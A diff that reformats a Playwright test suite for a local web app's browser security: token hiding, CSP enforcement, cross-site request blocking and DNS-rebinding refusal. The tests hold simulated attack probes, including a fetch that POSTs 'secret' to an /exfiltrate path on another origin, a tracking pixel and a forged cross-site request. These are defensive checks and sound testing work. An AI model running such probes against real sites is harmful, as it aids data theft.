@@ -32,7 +32,14 @@ beforeAll(async () => {
       executablePath: CHROMIUM_PATH,
       headless: true,
       // evil.test resolves to loopback, as a rebinding attacker's name would.
-      args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking', '--disable-dev-shm-usage', '--host-resolver-rules=MAP evil.test 127.0.0.1'],
+      args: [
+        '--no-sandbox',
+        '--disable-gpu',
+        '--no-first-run',
+        '--disable-background-networking',
+        '--disable-dev-shm-usage',
+        '--host-resolver-rules=MAP evil.test 127.0.0.1',
+      ],
     }),
   ]);
 }, 120_000);
@@ -52,12 +59,18 @@ async function openApp(): Promise<Page> {
   return page;
 }
 
-test('the token leaves the address bar and the page\'s script never sees it', async () => {
+test("the token leaves the address bar and the page's script never sees it", async () => {
   const page = await openApp();
   expect(page.url()).not.toContain(serve.token);
   // The session cookie is HttpOnly: the page's script reads no cookie at all.
-  expect(await page.evaluate(() => [location.href, document.cookie])).toEqual([expect.not.stringContaining(serve.token), '']);
-  const stored = await page.evaluate(() => ({ local: JSON.stringify({ ...localStorage }), session: JSON.stringify({ ...sessionStorage }) }));
+  expect(await page.evaluate(() => [location.href, document.cookie])).toEqual([
+    expect.not.stringContaining(serve.token),
+    '',
+  ]);
+  const stored = await page.evaluate(() => ({
+    local: JSON.stringify({ ...localStorage }),
+    session: JSON.stringify({ ...sessionStorage }),
+  }));
   expect(stored.local).not.toContain(serve.token);
   expect(stored.session).not.toContain(serve.token);
   const cookies = await page.context().cookies(serve.origin);
@@ -65,7 +78,7 @@ test('the token leaves the address bar and the page\'s script never sees it', as
   await page.close();
 });
 
-test('the page\'s CSP stops injected script and requests to other origins', async () => {
+test("the page's CSP stops injected script and requests to other origins", async () => {
   const page = await openApp();
   const outcome = await page.evaluate(async (target) => {
     const violations: string[] = [];
@@ -78,14 +91,24 @@ test('the page\'s CSP stops injected script and requests to other origins', asyn
     s.textContent = 'window.injected = true';
     document.body.appendChild(s);
     let fetched = 'sent';
-    try { await fetch(`${target}/exfiltrate`, { method: 'POST', body: 'secret', mode: 'no-cors' }); } catch { fetched = 'blocked'; }
+    try {
+      await fetch(`${target}/exfiltrate`, { method: 'POST', body: 'secret', mode: 'no-cors' });
+    } catch {
+      fetched = 'blocked';
+    }
     const img = new Image();
-    await new Promise((r) => { img.onerror = r; img.onload = r; img.src = `${target}/pixel`; });
+    await new Promise((r) => {
+      img.onerror = r;
+      img.onload = r;
+      img.src = `${target}/pixel`;
+    });
     return { injected: (window as unknown as { injected?: boolean }).injected, fetched, violations };
   }, otherOrigin);
   expect(outcome.injected).toBe(false);
   expect(outcome.fetched).toBe('blocked');
-  expect(outcome.violations).toEqual(expect.arrayContaining(['script-src-attr', 'script-src-elem', 'connect-src', 'img-src']));
+  expect(outcome.violations).toEqual(
+    expect.arrayContaining(['script-src-attr', 'script-src-elem', 'connect-src', 'img-src']),
+  );
   expect(reached).toEqual([]);
   await page.close();
 });
@@ -103,7 +126,11 @@ test('no inline styles: the app runs without a style violation, and an injected 
   expect(res.headers()['content-security-policy']).toMatch(/style-src 'self';/);
   expect(res.headers()['content-security-policy']).not.toContain('unsafe-inline');
   // Open a sample table, so the grid, the tree and their computed styles have all rendered.
-  await page.getByRole('button', { name: /^HelpDesk\b/ }).first().click().catch(() => undefined);
+  await page
+    .getByRole('button', { name: /^HelpDesk\b/ })
+    .first()
+    .click()
+    .catch(() => undefined);
   await page.locator('[data-app-state="loaded"]').waitFor();
   const outcome = await page.evaluate(async () => {
     const before = [...(window as unknown as { cspViolations: string[] }).cspViolations];
@@ -147,20 +174,33 @@ test('another site open in the same browser cannot make the API act (no token, w
     // A "simple" request needs no preflight, so only the server's own checks stand in its way.
     for (const body of ['{"endpoint":"http://127.0.0.1:1","region":"us-east-1","name":"planted"}']) {
       try {
-        const r = await fetch(`${api}/api/addEndpointConnection`, { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body });
+        const r = await fetch(`${api}/api/addEndpointConnection`, {
+          method: 'POST',
+          mode: 'no-cors',
+          headers: { 'Content-Type': 'text/plain' },
+          body,
+        });
         out.push(`no-cors ${r.type}`);
-      } catch (e) { out.push(`no-cors threw ${(e as Error).name}`); }
+      } catch (e) {
+        out.push(`no-cors threw ${(e as Error).name}`);
+      }
       try {
         const r = await fetch(`${api}/api/listConnections`, { method: 'POST', body: '{}' });
         out.push(`cors ${r.status}`);
-      } catch (e) { out.push(`cors threw ${(e as Error).name}`); }
+      } catch (e) {
+        out.push(`cors threw ${(e as Error).name}`);
+      }
     }
     return out;
   }, serve.origin);
   // The page can read nothing back, and the connection was not planted.
   expect(attempts).toEqual(['no-cors opaque', 'cors threw TypeError']);
   const names = await app.evaluate(async (token) => {
-    const r = await fetch('/api/listConnections', { method: 'POST', headers: { Authorization: `Bearer ${token}` }, body: '{}' });
+    const r = await fetch('/api/listConnections', {
+      method: 'POST',
+      headers: { Authorization: `Bearer ${token}` },
+      body: '{}',
+    });
     return ((await r.json()) as { connections: Array<{ name: string }> }).connections.map((c) => c.name);
   }, serve.token);
   expect(names).not.toContain('planted');
@@ -176,7 +216,11 @@ test('a DNS-rebinding name that resolves to loopback gets neither the page nor t
   expect(res?.status()).toBe(403);
   expect(await page.textContent('body')).toMatch(/ForbiddenHost/);
   const api = await page.evaluate(async (token) => {
-    const r = await fetch('/api/listConnections', { method: 'POST', headers: { Authorization: `Bearer ${token}` }, body: '{}' });
+    const r = await fetch('/api/listConnections', {
+      method: 'POST',
+      headers: { Authorization: `Bearer ${token}` },
+      body: '{}',
+    });
     return [r.status, ((await r.json()) as { error: { name: string } }).error.name];
   }, serve.token);
   expect(api).toEqual([403, 'ForbiddenHost']);
